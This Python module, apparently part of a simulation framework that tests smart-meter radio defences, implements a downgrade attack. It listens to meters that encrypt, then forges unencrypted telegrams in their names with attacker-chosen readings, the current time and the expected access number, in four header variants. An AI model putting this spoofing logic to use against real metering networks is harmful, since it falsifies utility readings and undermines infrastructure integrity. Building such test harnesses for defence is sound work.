"""Downgrade: a telegram in clear in the name of a meter that encrypts."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from attacks.attack import Can, Outcome, Steps, attack
from attacks.parts import forgery
from attacks.parts.sent_frames import Shot, outcomes_of
from attacks.parts.survey import Known, Survey
from attacks.reach import Reach
from sim.truth.ground_truth import Truth, fingerprint

FORMS: dict[str, Callable[[bytes, bytes], bytes]] = {
    "mode 0": forgery.in_mode_0,
    "no header (CI 78)": forgery.without_header,
    "no encrypted block (N = 0)": forgery.with_no_block,
    "mode 0 behind an extended link layer": forgery.behind_ell,
}
UNITS = 1


@attack(
    id="radio.downgrade",
    title="Send in clear in the name of an encrypted meter",
    threats=["L19"],
    can=Can.HEAR | Can.SPEAK,
    ics=["T0856", "T0860"],
    weakness={"portal.pin_profile": False},
    seen_as="refused: profile",
)
@dataclass
class Downgrade:
    """Nothing is broken and no key is needed: the telegram is written anew, with units of the attacker's choice, the
    present date and time and the access number expected next, and says of itself that it is not encrypted. A receiver
    that believes what a telegram says about its own protection takes it, whatever else it checks.

    Each form is sent in the names of `targets_each` meters of each mode and maker, half an interval after they spoke.
    """

    learn_s: float = 600.0
    targets_each: int = 1
    makers: tuple[str, ...] = ("QDS", "TCH")
    survey: Survey = field(default_factory=Survey)
    shots: list[Shot] = field(default_factory=list)
    _armed: dict[str, str] = field(default_factory=dict)

    def run(self, reach: Reach) -> Steps:
        reach.listen(lambda heard: self._heard(reach, self.survey.note(heard)))
        yield reach.wait_until(self.learn_s)
        for security in ("mode5", "mode7"):
            for maker in self.makers:
                known = self.survey.loudest(security, makers=(maker,), least=2)
                for number, target in enumerate(known[: len(FORMS) * self.targets_each]):
                    self._armed[target.address] = list(FORMS)[number % len(FORMS)]

    def _heard(self, reach: Reach, known: Known | None) -> None:
        if known is not None and known.address in self._armed:
            reach.go(self._forge(reach, self._armed.pop(known.address), known))

    def _forge(self, reach: Reach, form: str, known: Known) -> Steps:
        yield reach.wait(known.interval_s / 2)
        forged = FORMS[form](known.recordings[-1].telegram, forgery.records_now(UNITS, reach.today()))
        reach.note("speak", f"{form}: {known.address}, telegram {fingerprint(forged)}")
        self.shots.append(Shot(form, known.security, known.address, reach.speak(forged)))

    def outcomes(self, truth: Truth) -> list[Outcome]:
        return outcomes_of(self.shots, truth)
